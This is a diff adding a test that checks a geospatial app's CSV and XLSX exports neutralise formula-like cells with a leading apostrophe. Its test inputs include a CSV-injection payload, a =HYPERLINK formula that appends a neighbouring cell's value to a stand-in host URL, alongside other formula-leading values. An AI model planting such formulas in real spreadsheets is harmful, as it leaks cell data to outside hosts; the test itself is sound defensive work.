@@ -86,3 +86,31 @@ def test_cases_export_with_filters_and_the_callers_areas(demo_url: str, tmp_path
     everything = c.get("/api/v1/layers/cases/export?format=csv").data
     assert len(pd.read_csv(io.BytesIO(everything), encoding="utf-8-sig")) > len(table)
     assert app.test_client().get("/api/v1/layers/cases/export").status_code == 401
+
+
+def test_csv_and_xlsx_cells_that_begin_like_a_formula_are_text(tmp_path: Path) -> None:
+    """A reporter's =HYPERLINK(…) (or +, -, @, a tab, a CR first) reaches a spreadsheet as
+    text, with a leading apostrophe; other cells and the geometry column are untouched."""
+    import geopandas as gpd
+    import shapely
+
+    from data.export import export
+
+    risky = ['=HYPERLINK("http://x.example/"&A2,"查看")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\ry"]
+    gdf = gpd.GeoDataFrame(
+        {"code": [f"C{i}" for i in range(len(risky) + 1)], "description": [*risky, "路灯不亮"]},
+        geometry=[shapely.Point(120.15, 30.3)] * (len(risky) + 1),
+        crs=4326,
+    )
+    csv = pd.read_csv(
+        io.BytesIO(export(gdf, "cases", "csv", "wgs84")), encoding="utf-8-sig", dtype=str
+    )
+    assert [d[0] for d in csv["description"][: len(risky)]] == ["'"] * len(risky)
+    assert csv["description"][0] == "'" + risky[0]
+    assert csv["description"].iloc[-1] == "路灯不亮"
+    assert csv["wkt"].str.startswith("POINT").all()
+    f = tmp_path / "c.xlsx"
+    f.write_bytes(export(gdf, "cases", "xlsx", "wgs84"))
+    xlsx = pyogrio.read_dataframe(f, read_geometry=False, HEADERS="FORCE")
+    assert xlsx["description"].iloc[0] == "'" + risky[0]
+    assert xlsx["description"].iloc[-1] == "路灯不亮"
